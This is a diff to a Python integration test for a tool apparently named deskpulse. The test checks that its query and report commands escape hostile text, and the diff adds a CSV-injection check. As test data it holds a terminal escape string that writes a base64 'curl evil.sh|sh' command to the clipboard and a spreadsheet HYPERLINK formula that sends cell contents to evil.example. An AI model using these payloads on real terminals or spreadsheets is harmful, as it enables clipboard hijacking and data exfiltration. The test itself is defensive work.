@@ -3,6 +3,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import subprocess
 import sys
 import time
@@ -26,6 +28,8 @@ USER = "mallory"
 TITLE = ("inbox \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x9b31m\u202etxt.exe\r\x08 done "
          "\u2066x\u2069 \x85")
 APP = "term\x1b[5m\x07"
+#: a window title a spreadsheet would run (OWASP "CSV injection")
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 
 
 def deskpulse(stack, *args: str) -> subprocess.CompletedProcess:
@@ -42,14 +46,21 @@ def test_hostile_text_is_printed_escaped_by_every_command(stack):
     event = {"schema": "deskpulse.activity.v1", "event_id": uuid.uuid4().hex, "tenant": TENANT,
              "host": "pc-\x1b[8m", "user": USER, "app": APP, "title": TITLE,
              "start_ms": now - 120_000, "end_ms": now - 60_000}
+    formula = {**event, "event_id": uuid.uuid4().hex, "host": "pc-2", "app": "calc",
+               "title": FORMULA}
     producer = Producer({"bootstrap.servers": stack.broker})
-    producer.produce(topics.ACTIVITY, key=f"{TENANT}/{USER}".encode(), value=orjson.dumps(event))
+    for e in (event, formula):
+        producer.produce(topics.ACTIVITY, key=f"{TENANT}/{USER}".encode(), value=orjson.dumps(e))
     assert producer.flush(30) == 0
-    sql = f"SELECT app, title, host FROM deskpulse.activity_spans WHERE tenant = '{TENANT}'"
+    sql = (f"SELECT app, title, host FROM deskpulse.activity_spans WHERE tenant = '{TENANT}' "
+           "AND app != 'calc'")
+    calc = (f"SELECT title, 7 - 10 AS n FROM deskpulse.activity_spans WHERE tenant = '{TENANT}' "
+            "AND app = 'calc'")
 
     def stored() -> bool:
         out = deskpulse(stack, "query", sql, "--format", "json").stdout
-        return bool(orjson.loads(out))
+        return bool(orjson.loads(out)) and bool(orjson.loads(deskpulse(
+            stack, "query", calc, "--format", "json").stdout))
     wait_for(stored, timeout=120, what="the hostile span in the store", interval=1)
 
     as_json = deskpulse(stack, "query", sql, "--format", "json").stdout
@@ -59,6 +70,11 @@ def test_hostile_text_is_printed_escaped_by_every_command(stack):
     assert printable(TITLE) in table and printable(APP) in table
     as_csv = deskpulse(stack, "query", sql, "--format", "csv").stdout
     assert printable(TITLE, keep_lines=True) in as_csv
+    formula_csv = deskpulse(stack, "query", calc, "--format", "csv").stdout
+    assert list(csv.reader(io.StringIO(formula_csv))) == [["title", "n"], ["'" + FORMULA, "-3"]], \
+        "a title that is a formula gets a quote in CSV; a negative number stays a number"
+    assert orjson.loads(deskpulse(stack, "query", calc, "--format", "json").stdout) == \
+        [{"title": FORMULA, "n": -3}], "JSON keeps it exactly"
 
     report = deskpulse(stack, "report", "--tenant", TENANT).stdout
     assert USER in report and printable(APP) in report
